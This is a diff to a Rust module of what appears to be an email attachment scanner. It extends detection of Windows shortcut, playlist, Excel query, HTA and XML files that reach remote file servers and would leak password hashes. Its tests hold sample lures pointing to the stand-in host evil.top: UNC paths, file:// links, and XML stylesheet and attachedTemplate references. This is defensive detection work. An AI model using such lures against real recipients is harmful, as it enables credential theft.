@@ -1,6 +1,7 @@
 //! Files that a program of Windows follows when a reader opens them, or only their folder: shortcuts (`.url`,
 //! `.website`, `.scf`), saved searches and libraries (`.search-ms`, `.library-ms`), themes (`.theme`), settings of Remote
-//! Desktop (`.rdp`). Where they reach a file server, it is sent a password hash, or its program is run; a remote desktop
+//! Desktop (`.rdp`), lists of what is played (`.m3u`, `.pls`), queries of Excel (`.iqy`, `.odc`), programs that are installed
+//! or run (`.appinstaller`, `.hta`), XML that Word opens or whose style sheet is loaded. Where they reach a file server, it is sent a password hash, or its program is run; a remote desktop
 //! gets the reader's drives. Their web addresses are read as those of text, and compared with the name of the file: its
 //! extension is not shown, so that `www.example.com.url` reads as a site, and so does `www.example.com.html`.
 
@@ -14,8 +15,18 @@ use crate::outcome::{Place, Verdict};
 use uts58::{Target, reference};
 
 /// Extensions of such files, up to a hyphen.
-const EXTENSIONS: [&str; 7] =
-    ["url", "website", "search", "library", "searchconnector", "scf", "theme"];
+#[rustfmt::skip]
+const EXTENSIONS: [&str; 26] = [
+    "url", "website", "search", "library", "searchconnector", "scf", "theme",
+    "asx", "m3u", "m3u8", "pls", "wax", "wvx", "xspf",
+    "iqy", "odc", "oqy", "rqy",
+    "appinstaller", "application", "contact", "hta", "jnlp", "osdx", "sct", "settingcontent",
+];
+const XML: &str = "xml";
+
+/// What of XML programs load when it is opened.
+const STYLE_SHEET: &str = "?xml-stylesheet";
+const TEMPLATE: &str = "attachedTemplate";
 const REMOTE_DESKTOP: &str = "rdp";
 
 /// Extensions of shortcuts that Windows, macOS or a desktop of Linux does not show.
@@ -53,8 +64,13 @@ impl OpenReading<'_> {
         budget: &mut Budget<'_>,
         found: &mut Findings,
     ) {
-        let is_remote = self.entry.has_extension(&[REMOTE_DESKTOP]);
-        if self.index > 0 || !is_remote && !self.entry.has_extension(&EXTENSIONS) {
+        if self.index > 0 {
+            return;
+        }
+        let is = |extensions: &[&str]| self.entry.has_extension(extensions);
+        let is_remote = is(&[REMOTE_DESKTOP]);
+        let is_xml = is(&[XML]);
+        if !is_remote && !is_xml && !is(&EXTENSIONS) {
             return;
         }
         let text = self.reading.text.as_str();
@@ -64,6 +80,7 @@ impl OpenReading<'_> {
         let context = (judge, budget, found);
         match is_remote {
             true => self.reached(servers(text), Verdict::Suspect, context),
+            false if is_xml => self.reached(loaded(text), Verdict::Unsafe, context),
             false => self.reached(values(text), Verdict::Unsafe, context),
         }
     }
@@ -105,6 +122,12 @@ fn values(text: &str) -> impl Iterator<Item = &str> {
     text.split(['\r', '\n', '=', '"', '\'', '<', '>']).map(str::trim)
 }
 
+/// The values of what is loaded when XML is opened: data may name any server.
+fn loaded(xml: &str) -> impl Iterator<Item = &str> {
+    let is_loaded = |tag: &&str| tag.starts_with(STYLE_SHEET) || tag.contains(TEMPLATE);
+    xml.split('<').filter(is_loaded).flat_map(values)
+}
+
 /// The servers of a file of Remote Desktop (`full address:s:example.com:3389`), as paths.
 fn servers(text: &str) -> impl Iterator<Item = String> {
     text.lines().filter_map(|line| {
@@ -131,9 +154,12 @@ mod tests {
     }
 
     fn worst_of(name: &str, file: &[u8]) -> Option<Verdict> {
-        let head = format!(
-            "Content-Type: application/octet-stream; name={name}\r\nContent-Disposition: attachment\r\n"
-        );
+        worst_as("application/octet-stream", name, file)
+    }
+
+    fn worst_as(kind: &str, name: &str, file: &[u8]) -> Option<Verdict> {
+        let head =
+            format!("Content-Type: {kind}; name={name}\r\nContent-Disposition: attachment\r\n");
         let message = Message { head: head.as_bytes(), body: file };
         let facts =
             Facts { recipient_domains: vec!["harbour.example".to_owned()], ..Facts::default() };
@@ -259,6 +285,39 @@ mod tests {
             let file = format!("[InternetShortcut]\r\n{fine}\r\n");
             assert!(worst("x.url", &file) <= Some(Verdict::Notice), "{fine}");
         }
+    }
+
+    #[test]
+    fn other_files_that_reach_file_servers_are_reported() {
+        for name in
+            ["x.m3u", "x.PLS", "x.iqy", "x.odc", "x.settingcontent-ms", "x.appinstaller", "x.hta"]
+        {
+            for file in [
+                "#x\r\n\\\\evil.top\\s\\x\r\n",
+                "<x a=\"\\\\evil.top\\s\\x\"/>",
+                "<x>file://evil.top/x</x>",
+            ] {
+                let found = worst_as("text/plain", name, file.as_bytes());
+                assert_eq!(found, Some(Verdict::Unsafe), "{name} {file}");
+            }
+            for fine in ["https://evil.top/x", "\\\\nas01\\music\\x.mp3", "<x>C:\\x.mp3</x>"] {
+                let found = worst_as("text/plain", name, fine.as_bytes());
+                assert!(found <= Some(Verdict::Notice), "{name} {fine}");
+            }
+        }
+        for xml in [
+            "<?xml-stylesheet type='text/xsl' href='\\\\evil.top\\s\\x.xsl'?><x/>",
+            "<w:attachedTemplate w:val=\"\\\\evil.top\\s\\x.dot\"/>",
+            "<Relationship Type=\"x/attachedTemplate\" Target=\"file://evil.top/x.dotm\"/>",
+        ] {
+            assert_eq!(
+                worst_as("text/xml", "x.xml", xml.as_bytes()),
+                Some(Verdict::Unsafe),
+                "{xml}"
+            );
+        }
+        let data = "<file>\\\\fs01.firm.com\\plans\\a.dwg</file><?xml-stylesheet href='x.xsl'?>";
+        assert_eq!(worst_as("text/xml", "x.xml", data.as_bytes()), None);
     }
 
     #[test]
